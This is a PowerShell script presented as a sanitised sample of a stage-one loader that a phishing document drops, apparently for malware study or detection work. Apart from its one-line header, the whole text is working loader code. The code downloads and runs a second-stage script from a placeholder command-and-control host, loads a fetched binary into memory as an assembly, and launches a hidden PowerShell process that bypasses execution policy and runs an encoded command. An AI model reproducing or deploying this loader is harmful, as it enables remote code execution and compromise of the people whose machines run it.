# Stage-one loader as dropped by a phishing document (sanitised sample)
$ErrorActionPreference = 'SilentlyContinue'
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
$c2 = 'https://cdn-update.example.net'
$wc = New-Object -TypeName System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
$wc.Proxy.Credentials = [Net.CredentialCache]::DefaultNetworkCredentials
IEX ($wc.DownloadString("$c2/stage2.ps1"))

$bytes = (Invoke-WebRequest -Uri "$c2/lib.bin" -UseBasicParsing).Content
[System.Reflection.Assembly]::Load($bytes) | Out-Null

Start-Process -FilePath powershell.exe -WindowStyle Hidden -ArgumentList '-NoProfile', '-ExecutionPolicy', 'Bypass', '-EncodedCommand', 'dwBoAG8AYQBtAGkAIAAvAGEAbABsAA=='
